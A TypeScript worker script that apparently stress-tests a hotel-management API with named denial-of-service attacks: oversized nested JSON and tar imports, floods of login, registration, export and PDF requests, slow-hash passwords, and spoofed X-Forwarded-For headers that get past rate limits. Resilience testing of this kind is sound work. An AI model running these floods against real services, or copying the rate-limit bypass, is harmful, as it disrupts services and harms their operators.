import { randomUUID } from 'node:crypto'
import { buffer } from 'node:stream/consumers'
import { pack } from 'tar-stream'

/** The hotel of the attacker, who has the rights of its owner. */
export interface AttackTarget {
  url: string
  token: string
  hotelId: string
  codes: string[]
}

type Attack = (target: AttackTarget) => Promise<Response>

const jsonSize = 10_000_000

const importOf = (json: string): Attack => {
  let archive: Promise<Buffer> | undefined
  return async ({ url, token }) => {
    archive ??= archiveOf(json)
    return fetch(`${url}/v1/hotels/import?lang=fr`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/x-tar' },
      body: new Uint8Array(await archive),
    })
  }
}

function archiveOf(json: string): Promise<Buffer> {
  const archive = pack()
  archive.entry({ name: 'hotel.json' }, json)
  archive.finalize()
  return buffer(archive)
}

const getRequest =
  (path: string): Attack =>
  ({ url, token, hotelId }) =>
    fetch(`${url}/v1/hotels/${hotelId}/${path}`, { headers: { authorization: `Bearer ${token}` } })

const postRequest = (path: (target: AttackTarget) => string, body: (target: AttackTarget) => unknown): Attack => {
  return (target) =>
    fetch(target.url + path(target), {
      method: 'POST',
      headers: {
        authorization: `Bearer ${target.token}`,
        'content-type': 'application/json',
        // Every request comes from another network address, so that no rate limit stops it.
        'x-forwarded-for': `10.${[0, 0, 0].map(() => Math.floor(Math.random() * 250)).join('.')}`,
      },
      body: JSON.stringify(body(target)),
    })
}

/** A password that matches many entries of the dictionaries of the password check, which makes the check slow. */
const hostilePassword = () => `${'p4ssw0rd1qazxsw2l1verp00l'.repeat(5)}${randomUUID()}`.slice(0, 128)

/** The attacks, each with its number of concurrent requests (`lanes`). */
const attacks = {
  'import of [[[[': { lanes: 4, attack: importOf('['.repeat(jsonSize)) },
  'import of {},{}': { lanes: 4, attack: importOf(`{"medias":[${'{},'.repeat(jsonSize / 3 - 10)}{}]}`) },
  // The maximum number of invalid fields that fit into an import.
  'import of 240,000': { lanes: 4, attack: importOf(`{"medias":[${'{},'.repeat(240_000)}{}]}`) },
  sheets: {
    lanes: 60,
    attack: postRequest(
      ({ hotelId }) => `/v1/hotels/${hotelId}/qr-codes/sheet.pdf`,
      ({ codes }) => ({ format: 'card', codes }),
    ),
  },
  passwords: {
    lanes: 20,
    attack: postRequest(
      () => '/v1/auth/register',
      () => ({
        user: { email: `${randomUUID()}@hotel.example`, password: hostilePassword(), firstName: 'A', lastName: 'B' },
      }),
    ),
  },
  // The account does not exist; the check takes as long as for one that does.
  logins: {
    lanes: 40,
    attack: postRequest(
      () => '/v1/auth/login',
      () => ({ email: `${randomUUID()}@hotel.example`, password: randomUUID() }),
    ),
  },
  'unknown addresses': {
    lanes: 20,
    attack: ({ url }) => fetch(`${url}/${randomUUID()}${['', '/nowhere', '.data'][Math.floor(Math.random() * 3)]}`),
  },
  'unknown calls': { lanes: 20, attack: ({ url }) => fetch(`${url}/v1/${randomUUID()}`) },
  exports: { lanes: 8, attack: getRequest('export') },
  'order lists': { lanes: 16, attack: getRequest('orders?lang=fr&limit=200') },
  'order history': { lanes: 16, attack: getRequest('orders/history?lang=fr&limit=200') },
  'history as CSV': { lanes: 8, attack: getRequest('orders/history.csv?lang=fr') },
  statistics: { lanes: 8, attack: getRequest('statistics?lang=fr') },
  'statistics as CSV': { lanes: 8, attack: getRequest('statistics.csv?lang=fr') },
  'journal as CSV': { lanes: 8, attack: getRequest('audit.csv?lang=fr') },
  'JSON of [[[[': {
    lanes: 8,
    attack: ({ url, token, hotelId }) =>
      fetch(`${url}/v1/hotels/${hotelId}/services?lang=fr`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: '['.repeat(900_000),
      }),
  },
} satisfies Record<string, { lanes: number; attack: Attack }>

export type AttackName = keyof typeof attacks
export const attackNames = Object.keys(attacks) as AttackName[]

async function run({ name, target, seconds }: { name: AttackName; target: AttackTarget; seconds: number }) {
  const { lanes, attack } = attacks[name]
  const counts = new Map<string, number>()
  const end = performance.now() + seconds * 1000
  const runLane = async () => {
    while (performance.now() < end) {
      const status = await attack(target)
        .then(async (answer) => {
          await answer.arrayBuffer()
          return String(answer.status)
        })
        .catch(() => 'broken off')
      counts.set(status, (counts.get(status) ?? 0) + 1)
    }
  }
  await Promise.all(Array.from({ length: lanes }, runLane))
  process.send?.([...counts].map(([status, count]) => `${count} × ${status}`).join(', '))
  process.disconnect?.()
}

process.once('message', run)
